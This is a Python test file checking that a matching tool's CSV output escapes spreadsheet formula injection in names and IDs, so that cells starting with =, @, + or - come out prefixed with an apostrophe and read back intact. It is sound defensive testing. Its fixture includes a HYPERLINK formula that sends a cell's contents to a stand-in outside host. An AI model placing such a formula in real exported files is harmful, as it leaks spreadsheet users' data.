"""What `match` writes is dead to a spreadsheet, and goes through it again as it was."""

import csv
from pathlib import Path

from handrail.subjects.matching.files import WEIGHED, Columns, People, weighed, written

LINK = '=HYPERLINK("http://elsewhere.example/?"&A1,"open")'


def test_no_name_of_a_file_becomes_a_formula(tmp_path: Path) -> None:
    pairs, out = tmp_path / "pairs.csv", tmp_path / "out.csv"
    with pairs.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(
            [("name1", "name2"), (LINK, "Tansy Holm"), ("@cmd", "-Holm"), ("+44", "x")]
        )
    told = list(weighed(pairs, Columns()))
    assert told[0][0] == LINK, "it is read as it is"
    with written(out, WEIGHED) as file:
        file.writerows(told)
    found = list(csv.reader(out.read_text(encoding="utf-8").splitlines()))[1:]
    assert [row[0] for row in found] == [f"'{LINK}", "'@cmd", "'+44"]
    assert found[1][1] == "'-Holm"
    assert all(float(row[2]) < 1_000 for row in found), "a weight below nought stays a number"
    assert [row[:2] for row in weighed(out, Columns())] == [row[:2] for row in told], "read again as it was"


def test_no_number_of_a_person_becomes_a_formula(tmp_path: Path) -> None:
    people, out = tmp_path / "people.csv", tmp_path / "out.csv"
    with people.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("record_id", "full_name"), ("=1+1", "Tansy Holm")])
    with written(out, ("query_id", "person_id", "rank", "weight", "probability", "why")) as file:
        for found in People(people, Columns()).asked(people, Columns(), 3):
            file.writerows(found)
    [row] = list(csv.reader(out.read_text(encoding="utf-8").splitlines()))[1:]
    assert row[:2] == ["'=1+1", "'=1+1"]
